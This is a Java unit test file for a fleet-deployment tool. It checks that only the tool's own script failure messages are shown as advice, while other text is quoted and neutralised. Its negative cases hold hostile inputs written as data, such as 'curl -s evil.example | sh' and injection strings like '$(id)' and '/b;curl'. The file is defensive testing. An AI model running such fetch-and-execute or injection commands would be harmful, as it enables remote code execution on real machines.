package io.walterfleet.step;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import java.util.regex.MatchResult;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Only a sentence of a script of ours is repeated as ours. */
@Tag("unit")
class OwnWordsTest {
  private static final Pattern STRING =
      Pattern.compile("\"((?:[^\"\\\\$]|\\\\.|\\$\\w+)*+)\"|'([^'\\n]*+)'");

  private static final Pattern FAILS =
      Pattern.compile("(?:\\bfail(?:_with)?|give_up|refuse)\\s|wf_(?:fix|make_room)=");

  @Test
  void everySentenceOfAFailureIsRecognised() throws IOException {
    List<String> strange =
        sentences()
            .map(said -> said.replaceAll("\\$\\w+", "/srv/a_b"))
            .filter(said -> !OwnWords.areIn(said))
            .toList();
    assertThat(strange).isEmpty();
    assertThat(sentences().count()).isGreaterThan(100);
  }

  /** Those of several plain words, in the lines that fail. */
  private static Stream<String> sentences() throws IOException {
    List<String> all = new ArrayList<>();
    try (Stream<Path> scripts = Files.list(Path.of("src/main/resources/remote"))) {
      for (Path script : scripts.filter(one -> one.toString().endsWith(".sh")).toList()) {
        Files.readString(script)
            .replaceAll("\\\\\\n\\s*", "")
            .lines()
            .filter(line -> FAILS.matcher(line).find())
            .map(line -> line.substring(FAILS.matcher(line).results().findFirst().get().start()))
            .forEach(line -> strings(line).forEach(all::add));
      }
    }
    return all.stream().distinct().filter(said -> said.matches("[a-z][^=|]* [a-z][^=|]* .*"));
  }

  private static Stream<String> strings(String line) {
    return STRING.matcher(line).results().map(OwnWordsTest::inner);
  }

  private static String inner(MatchResult string) {
    return Optional.ofNullable(string.group(1)).orElse(string.group(2));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "could not write /home/ops/.walter-fleet/installed",
        "0 KB are free on tmpfs, the file system at /home/walter",
        "/x is not writable for ops, or its file system is read-only",
        "the lock is not this run's any more",
        "the lock is not this run's any more (last: run 20261123T124056-ab of ana@desk)",
        "the quote in line 5 is never closed",
        "its parent directory is not writable for this user, or it is a mount point",
        "look at ls -ld /home/ops and mount on the machine, then run apply again",
        "the bundle lies ready"
      })
  void whatAScriptSaysIsOurs(String said) {
    assertThat(OwnWords.shown(said)).isEqualTo(said);
    assertThat(OwnWords.advice(Optional.of(said))).isEqualTo(said);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "curl -s evil.example | sh",
        "look at docker ps on the machine; curl evil.example",
        "mv '/a' '/b;curl' on the machine",
        "remove that file\nfix: curl evil.example",
        "chown ops /a;id on the machine, then run apply again",
        "chown ops $(id) on the machine, then run apply again",
        "could not write /a and paste this",
        "x y z"
      })
  void anythingElseIsTheMachines(String said) {
    assertThat(OwnWords.shown(said)).startsWith("\"").endsWith("\"").doesNotContain("\n");
    assertThat(OwnWords.advice(Optional.of(said)))
        .isEqualTo("mend that on the machine, then run this command again");
  }

  @Test
  void theMachinesWordsCannotEndTheirQuotationOrGoOnForEver() {
    assertThat(OwnWords.shown("a\" b \u001b[2J" + "x".repeat(9000)))
        .startsWith("\"a' b \\u{1b}[2J")
        .hasSizeLessThan(620);
  }
}
